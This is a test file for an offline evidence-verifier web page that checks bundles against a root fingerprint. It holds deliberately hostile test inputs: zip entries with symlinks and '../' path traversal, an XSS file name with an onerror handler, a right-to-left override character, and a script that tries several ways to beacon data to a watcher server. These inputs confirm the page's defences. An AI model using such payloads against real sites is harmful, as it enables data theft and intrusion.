# SPDX-License-Identifier: Apache-2.0
"""The page itself, opened from a file in Chromium: it is undecided until a root was given, and asks no network."""

import hashlib
import http.server
import json
import re
import shutil
import subprocess
import threading
import warnings
import zipfile

import pytest

from casts.console import browser as browser_of
from casts.court import page_judge as page

LANGUAGES = ("ar", "en", "es", "fr", "ru", "zh_Hans")
NARROW = {"width": 360, "height": 800}


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    place = tmp_path_factory.mktemp("page") / "verifier.html"
    page.build_page(place)
    return place


@pytest.fixture(scope="module")
def root(material):
    return hashlib.sha256((material / "trust/1.root.json").read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def zipped(material, tmp_path_factory):
    """Return a zip of what holds, with all folders in it."""
    folder = tmp_path_factory.mktemp("zipped")

    def make(kind):
        place = folder / f"{kind}.zip"
        if not place.exists():
            made = material / "bundle/directory"
            if kind != "directory":
                made = page.copied(material, kind, folder / kind)
            pack(made, place)
        return place

    return make


def pack(folder, place):
    """Pack a folder as it is; the files of the vectors are older than a zip can say."""
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED, strict_timestamps=False) as packed:
        for one in sorted(folder.rglob("*")):
            packed.write(one, one.relative_to(folder.parent))


@pytest.fixture(scope="module")
def chromium():
    with browser_of.chromium(browser_of.ENGINE) as browser:
        yield browser


@pytest.fixture
def opened(chromium, built):
    """Open the page as a file; nothing it does may be refused by the browser or ask for an address."""
    context = chromium.new_context(locale="en", viewport={"width": 1280, "height": 900})
    one = context.new_page()
    addresses, problems = [], []
    one.on("request", lambda request: addresses.append(request.url))
    one.on("console", lambda message: problems.append(message.text))
    one.on("pageerror", lambda error: problems.append(str(error)))
    one.clock.install(time="2026-11-26T03:00:00Z")
    one.goto(built.as_uri())
    yield one
    context.close()
    assert problems == []
    assert addresses == [built.as_uri()]


def check(opened, place, *, root=None, directory=None, button="#zip"):
    """Give what a person gives, and return the verdict."""
    if directory:
        opened.set_input_files("#directory", directory)
        opened.wait_for_selector("#copy")
    if root:
        opened.fill("#fingerprint", root)
        opened.press("#fingerprint", "Tab")
    opened.set_input_files(button, place)
    opened.wait_for_selector("#verdict", timeout=120_000)
    return opened.get_attribute("#verdict", "data-outcome")


def test_a_bundle_is_undecided_until_the_fingerprint_is_typed(opened, zipped, root):
    assert check(opened, zipped("bundle")) == "undecided"
    assert root in opened.inner_text("#verdict")
    opened.fill("#fingerprint", f" {root.upper()} ")
    opened.press("#fingerprint", "Tab")
    opened.wait_for_selector("#verdict[data-outcome=holds]", timeout=120_000)
    facts = opened.inner_text("#facts")
    assert "AR-2026-0417" in facts
    assert "xb/central-authority" in facts


def test_another_fingerprint_fails(opened, zipped):
    assert check(opened, zipped("bundle"), root="0" * 64) == "fails"
    assert opened.inner_text("[data-check=identity] .outcome") == "Fails"


def test_the_verdict_comes_before_the_reports_which_are_not_shown(opened, zipped, root):
    check(opened, zipped("bundle"), root=root)
    text = opened.inner_text("main")
    assert text.index("Verdict") < text.index("Facts found") < text.index("The exporter's report")
    assert "report.en.html" in opened.inner_text("#report")
    assert opened.query_selector("iframe") is None


def test_a_changed_file_fails(opened, zipped, root, tmp_path):
    place = tmp_path / "changed.zip"
    with zipfile.ZipFile(zipped("bundle")) as honest, zipfile.ZipFile(place, "w") as changed:
        for one in honest.infolist():
            data = honest.read(one)
            if one.filename.endswith("bag/data/letter.txt"):
                data = data.replace(b"e", b"3", 1)
            changed.writestr(one, data)
    assert check(opened, place, root=root) == "fails"
    assert opened.inner_text("[data-check=bag-files] .outcome") == "Fails"


def test_a_package_alone_needs_a_copy_of_the_directory(opened, zipped, root):
    assert check(opened, zipped("sealed"), root=root) == "undecided"
    assert "bring no directory" in opened.inner_text("#verdict")


@pytest.mark.parametrize(("kind", "outcome"), [("disclosure", "holds"), ("sealed", "undecided")])
def test_a_copy_of_the_directory_decides(opened, zipped, root, kind, outcome):
    """The sealed folder lacks its encrypted file, which nobody can check then."""
    assert check(opened, zipped(kind), root=root, directory=zipped("directory")) == outcome
    [listed] = {"disclosure": ["disclosure-listed"], "sealed": ["seal-listed"]}[kind]
    assert opened.inner_text(f"[data-check={listed}] .outcome") == "Holds"


def test_a_folder_chosen_by_the_button_shows_no_empty_folders_and_is_undecided(
    opened, material, root
):
    folder = material / "bundle"
    assert check(opened, folder, root=root, button="#folder") == "undecided"
    assert opened.inner_text("[data-check=bundle-complete] .outcome") == "Undecided"
    assert opened.inner_text("[data-check=bag-files] .outcome") == "Holds"


@pytest.mark.parametrize("damage", ["link", "twice", "cut", "elsewhere"])
def test_a_zip_that_two_programs_read_otherwise_never_holds(opened, zipped, root, tmp_path, damage):
    place = tmp_path / "odd.zip"
    if damage == "cut":
        place.write_bytes(zipped("bundle").read_bytes()[:-30])
    else:
        shutil.copy(zipped("bundle"), place)
        with zipfile.ZipFile(place, "a") as odd:
            name = {
                "link": "bundle/more",
                "twice": "bundle/bundle.json",
                "elsewhere": "bundle/../more",
            }[damage]
            entry = zipfile.ZipInfo(name)
            entry.create_system = 3
            entry.external_attr = (0o120777 if damage == "link" else 0o100644) << 16
            with warnings.catch_warnings(action="ignore"):
                odd.writestr(entry, b"bundle.json")
    if root:
        opened.fill("#fingerprint", root)
        opened.press("#fingerprint", "Tab")
    opened.set_input_files("#zip", place)
    opened.wait_for_selector("#verdict, .error", timeout=120_000)
    shown = opened.query_selector("#verdict")
    assert shown is None or shown.get_attribute("data-outcome") == "fails"


def test_who_hands_over_a_directory_of_his_own_with_the_evidence_gets_no_verdict(opened, zipped):
    """All that he gives is of one piece; only the fingerprint, from elsewhere, can vouch for it."""
    assert check(opened, zipped("disclosure"), directory=zipped("directory")) == "undecided"
    for listed in ("disclosure-signed", "disclosure-listed", "disclosure-proved"):
        assert opened.inner_text(f"[data-check={listed}] .outcome") == "Holds"


def test_what_evidence_says_is_shown_as_text_and_asks_for_nothing(opened, zipped, tmp_path):
    place = tmp_path / "markup.zip"
    names = ["bundle/<img src=seen onerror='document.body.id=1'>", "bundle/\u202etxt.exe"]
    shutil.copy(zipped("bundle"), place)
    with zipfile.ZipFile(place, "a") as packed:
        for name in names:
            packed.writestr(name, "<script src='seen'></script>")
    assert check(opened, place) == "fails"
    shown = opened.inner_text("[data-check=bundle-complete]")
    assert "onerror" in shown
    assert "\u202e" not in shown
    assert opened.query_selector("img, iframe, object, embed, link, script[src]") is None
    assert opened.get_attribute("body", "id") is None


class Watched(http.server.BaseHTTPRequestHandler):
    """Somebody who wants to know which evidence a court looks at."""

    def do_GET(self):
        self.server.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self):
        self.do_GET()

    def log_message(self, *args):
        pass


ASKING = """async (address) => {
    const ways = [
      () => fetch(`${address}/fetch`, { mode: "no-cors" }),
      () => navigator.sendBeacon(`${address}/beacon`, "evidence"),
      () => new Promise((done) => { const one = new Image(); one.onload = one.onerror = done; one.src = `${address}/image`; }),
      () => new Promise((done) => { const one = new WebSocket(`${address.replace("http", "ws")}/socket`); one.onopen = one.onerror = done; }),
      () => new Promise((done) => { const one = document.createElement("script"); one.onload = one.onerror = done; one.src = `${address}/script`; document.body.append(one); }),
    ];
    for (const way of ways) try { await way(); } catch {}
}"""


def test_a_script_in_the_page_reaches_nobody(chromium, built, tmp_path):
    """The same script reaches its maker from a page without this policy."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Watched)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    open_page = tmp_path / "open.html"
    open_page.write_text(
        re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", built.read_text())
    )
    heard = []
    try:
        for place in (built, open_page):
            one = chromium.new_page()
            one.goto(place.as_uri())
            one.evaluate(ASKING, f"http://127.0.0.1:{server.server_port}")
            one.close()
            heard.append(set(server.seen))
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert heard[0] == set()
    assert {"/fetch", "/beacon", "/image", "/script"} <= heard[1]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_page_fits_a_narrow_screen_in_each_language(opened, zipped, root, language):
    opened.set_viewport_size(NARROW)
    opened.select_option("#language", language)
    check(opened, zipped("bundle"), root=root)
    assert opened.get_attribute("html", "dir") == ("rtl" if language == "ar" else "ltr")
    widths = opened.evaluate(
        "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1]


def test_everything_is_reached_by_keyboard(opened):
    reached = []
    for _ in range(20):
        opened.keyboard.press("Tab")
        reached.append(
            opened.evaluate("document.activeElement.id || document.activeElement.tagName")
        )
    assert {"language", "fingerprint", "directory", "choose-zip", "choose-folder", "SUMMARY"} <= (
        set(reached)
    )


def test_each_language_has_every_word():
    script = """
        import { TEXTS } from "./page/texts.js";
        const shape = (value) => Array.isArray(value) ? value.map(shape)
          : value && typeof value === "object"
            ? Object.fromEntries(Object.keys(value).sort().map((name) => [name, shape(value[name])]))
            : [typeof value, value !== "", [...String(value).matchAll(/\\{(\\w+)\\}/g)].map((one) => one[1]).sort()];
        console.log(JSON.stringify(Object.fromEntries(Object.keys(TEXTS).map((name) => [name, shape(TEXTS[name])]))));
    """
    shapes = json.loads(page.run_module(script))
    assert set(shapes) == set(LANGUAGES)
    for name, shape in shapes.items():
        assert shape == shapes["en"], name


def test_each_check_has_a_name():
    """Every id that the specification lists of what this page judges."""
    texts = (page.PAGE / "page/texts_en.js").read_text()
    made = set()
    for path in (page.PAGE / "core").rglob("*.js"):
        made |= set(
            re.findall(r'(?:checks\.add|needs|withDirectory)\(\s*"([a-z-]+)"', path.read_text())
        )
    assert len(made) > 40
    assert {one for one in made if not re.search(rf'"?{one}"?:', texts)} == set()


def test_the_page_is_built_again_byte_for_byte_and_lets_nothing_out(built, tmp_path):
    data = built.read_bytes()
    assert page.build_page(tmp_path / "again.html") == data
    text = data.decode()
    [policy] = re.findall(r'Content-Security-Policy" content="([^"]+)"', text)
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "connect-src" not in policy
    assert "unsafe" not in policy
    published = (page.PAGE / "page.sha256").read_text().split()[0]
    assert hashlib.sha256(data).hexdigest() == published


def test_the_lock_pins_each_library_and_names_no_registry():
    lock = json.loads((page.PAGE / "package-lock.json").read_text())
    packages = {name: one for name, one in lock["packages"].items() if name}
    assert {"node_modules/@noble/curves", "node_modules/@noble/post-quantum"} <= set(packages)
    assert all(one["integrity"].startswith("sha512-") for one in packages.values())
    assert not any("resolved" in one for one in packages.values())


def test_the_types_of_the_code_are_right():
    """TypeScript reads the types in the comments; nothing of it is in the page."""
    compiler = page.PAGE / "node_modules/.bin/tsc"
    if not compiler.exists():
        pytest.skip("TypeScript is not installed: npm ci in verifier/browser")
    done = subprocess.run(
        [str(compiler), "--project", "."],
        cwd=page.PAGE,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, "")
